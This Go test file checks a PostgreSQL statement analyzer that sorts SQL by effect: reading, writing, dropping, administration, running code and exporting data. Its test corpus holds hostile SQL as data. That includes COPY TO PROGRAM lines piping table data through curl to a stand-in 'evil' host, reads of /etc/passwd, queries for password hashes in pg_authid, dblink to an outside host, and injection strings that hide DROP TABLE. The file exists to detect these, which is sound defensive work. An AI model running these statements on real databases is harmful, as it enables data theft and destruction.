package pgsql

import (
	"reflect"
	"strings"
	"testing"

	pg "github.com/pganalyze/pg_query_go/v6"
	"google.golang.org/protobuf/proto"

	"sallyport/protocols"
)

const opaque = protocols.Opaque

// corpus is what each form of statement does. The server test runs it too, one-sidedly.
var corpus = []struct {
	name, sql string
	effects   protocols.Effects
	unbounded bool
}{
	// Reading.
	{"nothing", "", read, false},
	{"only a comment", "-- DROP TABLE t\n/* nested /* DELETE FROM t */ still */ ;;", read, false},
	{"a query", "SELECT * FROM customers WHERE id = 1", read, false},
	{"a query of PostgreSQL's own functions", "SELECT now(), upper(name), count(*) OVER (), pg_catalog.lower(name) FROM customers", read, false},
	{"values", "VALUES (1), (2)", read, false},
	{"a whole table", "TABLE customers", read, false},
	{"random values", "SELECT random(), clock_timestamp(), gen_random_uuid()", read, false},
	{"sleeping and advisory locks", "SELECT pg_sleep(0), pg_advisory_lock(1), pg_advisory_unlock(1)", read, false},
	{"extract and at time zone", "SELECT extract(year FROM now() AT TIME ZONE 'UTC'), substring('abc' FROM 2), trim('x')", read, false},
	{"JSON and arrays", "SELECT '{\"a\":1}'::jsonb -> 'a', ARRAY[1,2] @> ARRAY[1], jsonb_path_query('[1]', '$[*]')", read, false},
	{"show", "SHOW search_path", read, false},
	{"copy out", "COPY customers (name) TO STDOUT", read, false},
	{"copy a query out", "COPY (SELECT name FROM customers) TO STDOUT (FORMAT csv)", read, false},
	{"explain", "EXPLAIN DELETE FROM customers", read, false},
	{"explain, not analyzed after all", "EXPLAIN (ANALYZE, ANALYZE off) DELETE FROM customers", read, false},
	{"explain analyze of a query", "EXPLAIN ANALYZE SELECT 1", read, false},
	{"transactions", "BEGIN; SAVEPOINT a; ROLLBACK TO a; RELEASE a; COMMIT; START TRANSACTION ISOLATION LEVEL SERIALIZABLE; ROLLBACK", read, false},
	{"listen", "LISTEN a; UNLISTEN *", read, false},
	{"discard", "DISCARD ALL", read, false},
	{"what JDBC asks at start", "SELECT information_schema._pg_expandarray(ARRAY[1])", read, false},

	// Changing rows.
	{"insert", "INSERT INTO customers (name) VALUES ('a')", write, false},
	{"insert returning", "INSERT INTO customers (name) VALUES ('a') RETURNING id", read | write, false},
	{"insert from a query", "INSERT INTO customers (name) SELECT name FROM customers", read | write, false},
	{"upsert", "INSERT INTO customers (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET name = 'x'", write, false},
	{"update by key", "UPDATE customers SET name = 'x' WHERE id = 1", write, false},
	{"update of everything", "UPDATE customers SET name = 'x'", write, true},
	{"delete by key", "DELETE FROM customers WHERE id = 1", write, false},
	{"delete of everything", "DELETE FROM customers", write, true},
	{"delete where true", "DELETE FROM customers WHERE true", write, true},
	{"delete where 1=1", "DELETE FROM customers WHERE 1=1", write, true},
	{"delete where a or true", "DELETE FROM customers WHERE id = 1 OR true", write, true},
	{"delete where a and true", "DELETE FROM customers WHERE id = 1 AND true", write, false},
	{"delete where x=x", "DELETE FROM customers WHERE id = id", write, true},
	{"delete where x>=x", "DELETE FROM customers c WHERE c.id >= c.id", write, true},
	{"delete where not false", "DELETE FROM customers WHERE NOT false", write, true},
	{"delete where either way", "DELETE FROM customers WHERE id IS NULL OR id IS NOT NULL", write, true},
	{"delete where equal or not", "DELETE FROM customers WHERE id = 1 OR id <> 1", write, true},
	{"delete where like anything", "DELETE FROM customers WHERE name LIKE '%'", write, true},
	{"delete where there is a row", "DELETE FROM customers WHERE ctid IS NOT NULL", write, true},
	{"delete where some other table says", "DELETE FROM customers WHERE EXISTS (SELECT 1 FROM orders WHERE id = 1)", read | write, true},
	{"delete where a correlated query says", "DELETE FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer = c.id)", read | write, false},
	{"delete where in a query", "DELETE FROM customers WHERE id IN (SELECT customer FROM orders)", write | read, false},
	{"delete where a time has come", "DELETE FROM customers WHERE now() > '2000-01-01'", write, true},
	{"delete with a parameter alone", "DELETE FROM customers WHERE $1", write, true},
	{"update from, not joined", "UPDATE customers SET name = 'x' FROM orders o WHERE o.id = 1", write, true},
	{"update from, joined", "UPDATE customers SET name = 'x' FROM orders o WHERE o.customer = customers.id", write, false},
	{"delete in a WITH", "WITH gone AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM gone", read | write, true},
	{"insert in a WITH in a subquery", "WITH a AS (WITH b AS (INSERT INTO orders (id) VALUES (7) RETURNING id) SELECT * FROM b) SELECT 1", read | write, false},
	{"merge by key", "MERGE INTO customers c USING orders o ON o.customer = c.id WHEN MATCHED THEN DELETE", write, false},
	{"merge on true", "MERGE INTO customers c USING orders o ON true WHEN MATCHED THEN DELETE", write, true},
	{"merge that inserts", "MERGE INTO customers c USING orders o ON false WHEN NOT MATCHED THEN INSERT (id) VALUES (o.id)", write, false},
	{"copy in", "COPY customers (name) FROM STDIN", write, false},
	{"locking rows", "SELECT * FROM customers FOR UPDATE", read | write, false},
	{"locking rows in a subquery", "SELECT * FROM (SELECT * FROM customers FOR KEY SHARE) x", read | write, false},
	{"nextval", "SELECT nextval('customers_id_seq')", read | write, false},
	{"setval", "SELECT setval('customers_id_seq', 1)", read | write, false},
	{"explain analyze", "EXPLAIN (ANALYZE) DELETE FROM customers", read | write, true},
	{"explain, analyzed after all", "EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM customers WHERE id = 1", read | write, false},
	{"explain analyze 1", "EXPLAIN (ANALYZE 1) DELETE FROM customers WHERE id = 1", read | write, false},
	{"explain analyze with a strange value", "EXPLAIN (ANALYZE maybe) DELETE FROM customers WHERE id = 1", read | write, false},
	{"several statements", "SELECT 1; DELETE FROM customers; SELECT 2", read | write, true},
	{"prepare", "PREPARE p AS DELETE FROM customers", write, true},
	{"prepare and execute", "PREPARE p (int) AS DELETE FROM customers WHERE id = $1; EXECUTE p(1)", write, false},
	{"explain analyze execute", "PREPARE p AS DELETE FROM customers; EXPLAIN ANALYZE EXECUTE p", read | write, true},
	{"declare and fetch", "BEGIN; DECLARE c CURSOR FOR SELECT * FROM customers; FETCH ALL FROM c; MOVE 1 FROM c; CLOSE c", read, false},
	{"cursor to XML", "BEGIN; DECLARE c CURSOR FOR SELECT * FROM customers FOR UPDATE; SELECT cursor_to_xml('c', 1, true, true, '')", read | write, false},
	{"create large object", "SELECT lo_create(0)", read | write, false},
	{"analyze", "ANALYZE customers", write, false},

	// Definitions.
	{"create table", "CREATE TABLE x (id int PRIMARY KEY, o int REFERENCES orders)", define, false},
	{"create temporary table", "CREATE TEMP TABLE x (id int)", define, false},
	{"create table as", "CREATE TABLE x AS SELECT * FROM customers", read | define, false},
	{"create table as execute", "PREPARE p AS SELECT * FROM customers; CREATE TABLE x AS EXECUTE p", read | define, false},
	{"select into", "SELECT * INTO x FROM customers", read | define, false},
	{"create view", "CREATE VIEW x AS SELECT name FROM customers", read | define, false},
	{"create materialized view", "CREATE MATERIALIZED VIEW x AS SELECT name FROM customers", read | define, false},
	{"refresh materialized view", "REFRESH MATERIALIZED VIEW names", read | write | define, false},
	{"create index", "CREATE INDEX ON customers (lower(name))", define, false},
	{"create sequence", "CREATE SEQUENCE x", define, false},
	{"create schema with a table", "CREATE SCHEMA x CREATE TABLE y (id int)", define, false},
	{"create type", "CREATE TYPE x AS ENUM ('a')", define, false},
	{"alter table add", "ALTER TABLE customers ADD COLUMN x int DEFAULT 1", define, false},
	{"rename", "ALTER TABLE customers RENAME TO clients", define, false},
	{"comment", "COMMENT ON TABLE customers IS 'x'", define, false},
	{"default from a sequence", "CREATE TABLE x (id int DEFAULT nextval('customers_id_seq'))", define | write, false},

	// Removing.
	{"drop table", "DROP TABLE customers", destroy, true},
	{"drop view", "DROP VIEW IF EXISTS x CASCADE", destroy, true},
	{"drop schema", "DROP SCHEMA public CASCADE", destroy, true},
	{"drop function", "DROP FUNCTION leak(int)", destroy, true},
	{"truncate", "TRUNCATE customers, orders", write | destroy, true},
	{"alter table drop", "ALTER TABLE customers ADD x int, DROP COLUMN name", define | destroy, true},
	{"alter type", "ALTER TABLE customers ALTER COLUMN name TYPE text USING ''", define | destroy, true},
	{"set unlogged", "ALTER TABLE customers SET UNLOGGED", define | destroy, true},
	{"detach partition", "ALTER TABLE parts DETACH PARTITION parts_1", define | destroy, true},
	{"disable row security", "ALTER TABLE customers DISABLE ROW LEVEL SECURITY", define | destroy | admin, true},
	{"disable triggers", "ALTER TABLE customers DISABLE TRIGGER ALL", define | destroy | admin, true},
	{"drop owned", "DROP OWNED BY CURRENT_USER", admin | destroy, true},
	{"drop database", "DROP DATABASE x", admin | destroy, true},
	{"unlink large object", "SELECT lo_unlink(1)", read | write | destroy, false},
	{"drop inside explain analyze of a WITH", "EXPLAIN ANALYZE WITH x AS (DELETE FROM orders RETURNING 1) SELECT * FROM x", read | write, true},

	// Who may do what, and the server.
	{"grant", "GRANT SELECT ON customers TO bob", admin, false},
	{"revoke", "REVOKE ALL ON SCHEMA public FROM PUBLIC", admin, false},
	{"grant a role", "GRANT postgres TO bob", admin, false},
	{"create role", "CREATE ROLE x SUPERUSER", admin, false},
	{"alter role", "ALTER ROLE bob PASSWORD 'x'", admin, false},
	{"alter role set", "ALTER ROLE bob SET search_path = x", read | admin, false},
	{"drop role", "DROP ROLE bob", admin | destroy, true},
	{"reassign owned", "REASSIGN OWNED BY bob TO CURRENT_USER", admin, false},
	{"owner", "ALTER TABLE customers OWNER TO bob", admin | define, false},
	{"owner of a function", "ALTER FUNCTION leak(int) OWNER TO bob", admin | define, false},
	{"policy", "CREATE POLICY x ON customers USING (true)", admin | define, false},
	{"row security", "ALTER TABLE customers ENABLE ROW LEVEL SECURITY", admin | define, false},
	{"default privileges", "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC", admin, false},
	{"security label", "SECURITY LABEL ON TABLE customers IS 'x'", admin, false},
	{"alter system", "ALTER SYSTEM SET fsync = off", admin, false},
	{"alter database set", "ALTER DATABASE postgres SET search_path = x", read | admin, false},
	{"set role", "SET ROLE postgres", admin, false},
	{"set role none", "RESET ROLE", admin, false},
	{"set session authorization", "SET SESSION AUTHORIZATION postgres", admin, false},
	{"set role, quoted and in capitals", `SET "ROLE" = 'postgres'`, admin, false},
	{"set local role", "SET LOCAL role = 'postgres'", admin, false},
	{"set row_security", "SET row_security = off", admin, false},
	{"set session_replication_role", "SET session_replication_role = replica", admin, false},
	{"set standard_conforming_strings", "SET standard_conforming_strings = off", admin, false},
	{"set names to an unsafe encoding", "SET NAMES 'SJIS'", admin, false},
	{"set names to UTF-8", "SET NAMES 'utf-8'; SET client_encoding = UTF8", read, false},
	{"set an application's own setting", "SET app.tenant = '7'", admin, false},
	{"set_config of a role", "SELECT set_config('ROLE', 'postgres', false)", read | admin, false},
	{"SET by a view", "UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'", write | admin, false},
	{"writing to a catalog", "DELETE FROM pg_catalog.pg_proc WHERE oid = 1", write | admin, false},
	{"set_config of something harmless", "SELECT set_config('statement_timeout', '0', false)", read, false},
	{"set_config of who knows what", "SELECT set_config('ro' || 'le', 'postgres', false)", read | opaque, false},
	{"set harmless settings", "SET application_name = 'x'; SET LOCAL statement_timeout = 5; SET TIME ZONE 'UTC'; RESET work_mem; RESET ALL", read, false},
	{"set search_path", `SET search_path = "$user", public`, read, false},
	{"set search_path before pg_catalog", "SET search_path = public, pg_catalog", admin, false},
	{"set_config of search_path before pg_catalog", "SELECT set_config('search_path', 'public,pg_catalog', false)", read | admin, false},
	{"transaction that may write", "BEGIN READ WRITE; SET TRANSACTION READ WRITE", read, false},
	{"session that may write", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", admin, false},
	{"session that only reads", "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", read, false},
	{"lock", "LOCK TABLE customers IN ACCESS EXCLUSIVE MODE", admin, false},
	{"vacuum", "VACUUM FULL customers", admin, false},
	{"cluster", "CLUSTER customers USING customers_pkey", admin, false},
	{"reindex", "REINDEX TABLE customers", admin, false},
	{"checkpoint", "CHECKPOINT", admin, false},
	{"load", "LOAD 'x'", admin | execute, false},
	{"kill a backend", "SELECT pg_terminate_backend(1)", read | admin, false},
	{"reload", "SELECT pg_catalog.pg_reload_conf()", read | admin, false},
	{"two-phase commit", "PREPARE TRANSACTION 'x'", read | admin, false},
	{"commit prepared", "COMMIT PREPARED 'x'", read | admin, false},
	{"extension", "CREATE EXTENSION dblink", admin | define | execute, false},
	{"language", "CREATE LANGUAGE plperlu", admin | define | execute, false},
	{"event trigger", "CREATE EVENT TRIGGER x ON ddl_command_start EXECUTE FUNCTION f()", admin | define | execute, false},

	// Code.
	{"do", "DO $$ BEGIN DELETE FROM customers; END $$", execute, false},
	{"call", "CALL p(1)", execute, false},
	{"a user's function", "SELECT leak(1)", read | execute, false},
	{"a user's function by schema", "SELECT public.lower('x')", read | execute, false},
	{"a user's function in FROM", "SELECT * FROM leaks()", read | execute, false},
	{"a user's function in ORDER BY", "SELECT 1 FROM customers ORDER BY leak(id)", read | execute, false},
	{"a user's function planned", "EXPLAIN SELECT leak(1)", read | execute, false},
	{"a user's function in a default", "ALTER TABLE customers ALTER name SET DEFAULT leak(1)", define | execute, false},
	{"a user's function in a view", "CREATE VIEW x AS SELECT leak(1)", read | define | execute, false},
	{"a user's operator", "SELECT 1 OPERATOR(public.+) 2", read | execute, false},
	{"a user's operator in a sublink", "SELECT 1 OPERATOR(public.=) ANY (SELECT 2)", read | execute, false},
	{"an operator that PostgreSQL lacks", "SELECT a <=>>> b FROM customers", read | execute, false},
	{"an operator in ORDER BY", "SELECT 1 FROM customers ORDER BY id USING OPERATOR(public.<)", read | execute, false},
	{"PostgreSQL's operator by name", "SELECT 1 OPERATOR(pg_catalog.+) 2", read, false},
	{"create function", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", define | execute, false},
	{"create function with a body", "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DELETE FROM customers; SELECT 1; END", define | execute | read | write, true},
	{"create function in C", "CREATE FUNCTION f() RETURNS int LANGUAGE C AS 'x'", define | execute | admin, false},
	{"create trigger", "CREATE TRIGGER x BEFORE INSERT ON customers FOR EACH ROW EXECUTE FUNCTION f()", define | execute, false},
	{"create rule", "CREATE RULE x AS ON INSERT TO customers DO ALSO DELETE FROM orders", define | execute | write, true},
	{"create cast", "CREATE CAST (text AS int) WITH FUNCTION f(text)", define | execute, false},
	{"create operator", "CREATE OPERATOR === (FUNCTION = f, LEFTARG = int, RIGHTARG = int)", define | execute, false},
	{"create aggregate", "CREATE AGGREGATE x (int) (SFUNC = f, STYPE = int)", define | execute, false},

	// Other ways out.
	{"copy to a program", "COPY customers TO PROGRAM 'curl -d @- evil'", read | execute | export, false},
	{"copy from a program", "COPY customers FROM PROGRAM 'curl evil'", write | execute | export, false},
	{"copy to a file", "COPY customers TO '/tmp/x'", read | export, false},
	{"copy from a file", "COPY customers FROM '/etc/passwd'", write | export, false},
	{"copy out what is deleted", "COPY (DELETE FROM customers RETURNING *) TO STDOUT", read | write, true},
	{"read a file", "SELECT pg_read_file('/etc/passwd')", read | export, false},
	{"read a file, in capitals", "SELECT PG_READ_FILE('/etc/passwd')", read | export, false},
	{"read a file, by escapes", `SELECT U&"pg\005fread_file"('/etc/passwd')`, read | export, false},
	{"list files in FROM", "SELECT * FROM pg_ls_dir('.')", read | export, false},
	{"read a file in a default", "CREATE TABLE x (a text DEFAULT pg_read_file('x'))", define | export, false},
	{"read a file in a view", "CREATE VIEW x AS SELECT pg_read_file('x')", read | define | export, false},
	{"export a large object", "SELECT lo_export(1, '/tmp/x')", read | write | export, false},
	{"import a large object", "SELECT lo_import('/etc/passwd')", read | write | export, false},
	{"read a large object", "SELECT lo_get(1)", read | export, false},
	{"dblink", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", read | execute | export, false},
	{"dblink with hidden SQL", "SELECT dblink_exec('host=evil', name) FROM customers", read | execute | export | opaque, false},
	{"notify", "NOTIFY a, 'x'", export, false},
	{"notify by function", "SELECT pg_notify('a', name) FROM customers", read | export, false},
	{"passwords", "SELECT rolpassword FROM pg_authid", read | export, false},
	{"passwords by a view", "SELECT * FROM pg_catalog.pg_shadow", read | export, false},
	{"passwords copied out", "COPY pg_authid TO STDOUT", read | export, false},
	{"passwords in a view", "CREATE VIEW x AS TABLE pg_authid", read | define | export, false},
	{"a table like a secret", "CREATE TABLE x (LIKE pg_authid)", define, false},
	{"statistics", "SELECT most_common_vals FROM pg_stats", read | export, false},
	{"a CTE named like a secret", "WITH pg_shadow AS (SELECT 1) SELECT * FROM pg_shadow", read, false},
	{"a secret in the CTE named like it", "WITH pg_shadow AS (SELECT * FROM pg_shadow) SELECT * FROM pg_shadow", read | export, false},
	{"foreign server", "CREATE SERVER x FOREIGN DATA WRAPPER y", export | define | admin, false},
	{"foreign table", "CREATE FOREIGN TABLE x (a int) SERVER y", export | define, false},
	{"user mapping", "CREATE USER MAPPING FOR CURRENT_USER SERVER y", export | admin, false},
	{"import foreign schema", "IMPORT FOREIGN SCHEMA a FROM SERVER b INTO c", export | define, false},
	{"subscription", "CREATE SUBSCRIPTION x CONNECTION 'host=evil' PUBLICATION y", export | define | admin, false},
	{"publication", "CREATE PUBLICATION x FOR ALL TABLES", export | define, false},
	{"replication slot", "SELECT pg_create_logical_replication_slot('x', 'test_decoding')", read | admin | export, false},
	{"the database as XML", "SELECT database_to_xml(true, true, '')", read | export, false},

	// SQL in strings.
	{"query to XML", "SELECT query_to_xml('SELECT * FROM customers', true, true, '')", read, false},
	{"query to XML of a secret", "SELECT query_to_xml('SELECT * FROM pg_authid', true, true, '')", read | export, false},
	{"query to XML that deletes", "SELECT query_to_xml($$WITH x AS (DELETE FROM customers RETURNING *) TABLE x$$, true, true, '')", read | write, true},
	{"query to XML, hidden", "SELECT query_to_xml('SELECT * FROM ' || 'pg_authid', true, true, '')", read | opaque, false},
	{"query to XML from a column", "SELECT query_to_xml(name, true, true, '') FROM customers", read | opaque, false},
	{"query to XML by names of arguments", "SELECT query_to_xml(nulls => true, query => 'TABLE pg_authid', tableforest => true, targetns => '')", read | opaque, false},
	{"query to XML, cut short", "SELECT query_to_xml('SELECT 1; nonsense'::varchar(8), true, true, '')", read | opaque, false},
	{"table to XML", "SELECT table_to_xml('pg_authid', true, true, '')", read | export, false},
	{"statistics of text search", "SELECT * FROM ts_stat('SELECT vector FROM customers')", read, false},
	{"ts_rewrite with SQL", "SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM pg_authid')", read | export, false},
	{"ts_rewrite without SQL", "SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)", read, false},
	{"crosstab", "SELECT * FROM crosstab('DELETE FROM customers RETURNING 1,2,3') AS t(a int)", read | write, true},

	// What cannot be known.
	{"not SQL", "SELEKT 1", opaque, false},
	{"replication protocol", "START_REPLICATION SLOT x LOGICAL 0/0", opaque, false},
	{"execute of a stranger", "EXECUTE p", opaque, false},
	{"fetch of a stranger", "FETCH ALL FROM c", opaque, false},
	{"zero byte", "SELECT 1\x00; DROP TABLE customers", opaque, false},
	{"not UTF-8", "SELECT '\xff'", opaque, false},
}

func TestEveryFormOfStatementHasItsEffects(t *testing.T) {
	for _, test := range corpus {
		t.Run(test.name, func(t *testing.T) {
			a := NewCache(nil).Analyze(nil, test.sql)
			if a.Effects != test.effects {
				t.Errorf("%s\neffects %v, want %v (%s)", test.sql, a.Effects, test.effects, a.Problem)
			}
			if a.Unbounded != test.unbounded {
				t.Errorf("%s\nunbounded %v, want %v", test.sql, a.Unbounded, test.unbounded)
			}
			if a.Opaque() && a.Problem == "" {
				t.Error("opaque, and nobody is told why")
			}
			union := protocols.Effects(0)
			for _, s := range a.Statements {
				if s.Kind == "" {
					t.Errorf("%q has no kind", s.Text)
				}
				union |= s.effects
			}
			if len(a.Statements) > 0 && union != a.Effects {
				t.Errorf("the statements' effects are %v, the text's %v", union, a.Effects)
			}
		})
	}
}

func TestStringsAreReadAsTheServerReadsThem(t *testing.T) {
	for _, test := range []struct {
		name, sql string
		kinds     string
	}{
		{"a statement in a string", "SELECT 'a; DROP TABLE t'", "select"},
		{"a doubled quote", "SELECT 'a''; DROP TABLE t; --'", "select"},
		{"a backslash does not escape", `SELECT '\'; DROP TABLE t; --'`, "select drop_table"},
		{"a backslash escapes after E", `SELECT E'\'; DROP TABLE t; --'`, "select"},
		{"dollar quotes", "SELECT $a$ $b$ '; DROP TABLE t; $a$; TRUNCATE t", "select truncate"},
		{"dollar quotes that are not", "SELECT 1 a$b$; DROP TABLE t; -- $b$", "select drop_table"},
		{"a comment in a comment", "/* /* */ DROP TABLE t; */ SELECT 1", "select"},
		{"a comment that ends", "/* /* */ */ DROP TABLE t", "drop_table"},
		{"a line comment", "SELECT 1 -- ; DROP TABLE t\n; TRUNCATE t", "select truncate"},
		{"a carriage return ends it too", "SELECT 1 -- x\r; TRUNCATE t", "select truncate"},
		{"an identifier", `SELECT 1 AS "; DROP TABLE t"`, "select"},
		{"a string in pieces", "SELECT 'a'\n'; DROP TABLE t'", "select"},
		{"unicode escapes", `SELECT U&'\0027; DROP TABLE t'`, "select"},
		{"an escape character of one's own", `SELECT U&'!0027; DROP TABLE t' UESCAPE '!'`, "select"},
		{"an operator that swallows a comment", "SELECT 1 +-- ; DROP TABLE t\n 2; TRUNCATE t", "select truncate"},
	} {
		a := NewCache(nil).Analyze(nil, test.sql)
		var kinds []string
		for _, s := range a.Statements {
			kinds = append(kinds, s.Kind)
		}
		if got := strings.Join(kinds, " "); got != test.kinds {
			t.Errorf("%s: %s\nread as %q, want %q (%s)", test.name, test.sql, got, test.kinds, a.Problem)
		}
	}
}

func TestAStatementTellsItsOwnText(t *testing.T) {
	a := NewCache(nil).Analyze(nil, " SELECT 'é'; \n /* c */ DELETE FROM t ; ")
	if len(a.Statements) != 2 || a.Statements[0].Text != "SELECT 'é'" || a.Statements[1].Text != "/* c */ DELETE FROM t" {
		t.Errorf("%+v", a.Statements)
	}
}

func TestObjectsAreNamedAsWritten(t *testing.T) {
	a := NewCache(nil).Analyze(nil, `WITH recent AS (SELECT * FROM orders) INSERT INTO archive.orders SELECT r.* FROM recent r JOIN "Users" u ON f(u.id)`)
	s := a.Statements[0]
	if got := strings.Join(a.Objects, " "); got != "Users archive.orders orders" {
		t.Errorf("objects %q", got)
	}
	if got := strings.Join(s.Reads, " "); got != "Users orders" {
		t.Errorf("reads %q", got)
	}
	if got := strings.Join(s.Writes, " "); got != "archive.orders" {
		t.Errorf("writes %q", got)
	}
	if got := strings.Join(s.Functions, " "); got != "f" {
		t.Errorf("functions %q", got)
	}
}

func TestAWithQueryHidesATableOnlyWhereItIsInScope(t *testing.T) {
	for sql, reads := range map[string]string{
		"WITH x AS (SELECT 1) SELECT * FROM x":                                        "",
		"WITH x AS (SELECT 1) SELECT * FROM public.x":                                 "public.x",
		"WITH x AS (SELECT * FROM x) SELECT * FROM x":                                 "x",
		"WITH RECURSIVE x AS (SELECT 1 UNION SELECT * FROM x) SELECT * FROM x":        "",
		"WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b":             "b",
		"SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) y, x":                   "x",
		"SELECT (WITH x AS (SELECT 1) SELECT 2 FROM x) UNION SELECT 1 FROM x":         "x",
		"WITH x AS (SELECT 1) SELECT query_to_xml('SELECT * FROM x', true, true, '')": "x",
		"WITH x AS (SELECT 1) DELETE FROM t USING x WHERE t.id IN (SELECT id FROM x)": "",
	} {
		a := NewCache(nil).Analyze(nil, sql)
		if got := strings.Join(a.Statements[0].Reads, " "); got != reads {
			t.Errorf("%s\nreads %q, want %q", sql, got, reads)
		}
	}
}

func TestATrustedFunctionIsHarmless(t *testing.T) {
	c := NewCache([]string{"similarity", "ext.digest", "<=>"})
	for sql, effects := range map[string]protocols.Effects{
		"SELECT similarity('a', 'b')":          read,
		"SELECT ext.digest('a', 'md5')":        read,
		"SELECT a <=> b FROM t":                read,
		"SELECT digest('a', 'md5')":            read | execute,
		"SELECT evil.similarity('a', 'b')":     read | execute,
		"SELECT similarity(f('a'), 'b')":       read | execute,
		"SELECT a OPERATOR(evil.<=>) b FROM t": read | execute,
	} {
		a := c.Analyze(nil, sql)
		if a.Effects != effects {
			t.Errorf("%s: %v, want %v", sql, a.Effects, effects)
		}
		if !a.Statements[0].Touches.Any {
			t.Errorf("%s: what it returns is known", sql)
		}
	}
}

func TestEveryNodeTypeHasARule(t *testing.T) {
	fields := (*pg.Node)(nil).ProtoReflect().Descriptor().Fields()
	if len(oneofs) < fields.Len() {
		t.Errorf("the grammar has %d kinds of nodes, only %d are planned", fields.Len(), len(oneofs))
	}
	for _, p := range plans {
		if p.rule == nil && p.name != "ParseResult" {
			t.Errorf("%s has no rule", p.name)
		}
	}
}

// Nothing in a message is left out: every field that holds messages is visited.
func TestEveryFieldOfEveryNodeIsVisited(t *testing.T) {
	for goType, p := range plans {
		descriptor := reflect.Zero(goType).Interface().(proto.Message).ProtoReflect().Descriptor()
		want := 0
		oneofs := map[string]bool{}
		for i := range descriptor.Fields().Len() {
			f := descriptor.Fields().Get(i)
			switch {
			case f.Message() == nil:
			case f.ContainingOneof() != nil:
				oneofs[string(f.ContainingOneof().Name())] = true
			default:
				want++
			}
		}
		if want += len(oneofs); len(p.fields) != want {
			t.Errorf("%s: %d fields are visited, it has %d", p.name, len(p.fields), want)
		}
	}
}

func TestEveryCommandOfAlterTableIsNamedOrTheServersOwn(t *testing.T) {
	internal := words(`AT_AddColumnToView AT_CookedColumnDefault AT_CheckNotNull AT_ReAddIndex AT_ReAddConstraint
		AT_ReAddDomainConstraint AT_ReAddComment AT_ReplaceRelOptions AT_ReAddStatistics ALTER_TABLE_TYPE_UNDEFINED`)
	for value, name := range pg.AlterTableType_name {
		if _, known := alterTable[pg.AlterTableType(value)]; known == internal[name] {
			t.Errorf("%s: named %v, the server's own %v", name, known, internal[name])
		}
	}
}

func TestAnUnknownNodeIsOpaque(t *testing.T) {
	s := &Statement{}
	w := &walk{st: s}
	w.self = w.visit
	w.node(&pg.Node{Node: &pg.Node_Query{Query: &pg.Query{}}})
	if w.effects&opaque == 0 || w.problem == "" {
		t.Error("a node that the raw parser never makes passes")
	}
}
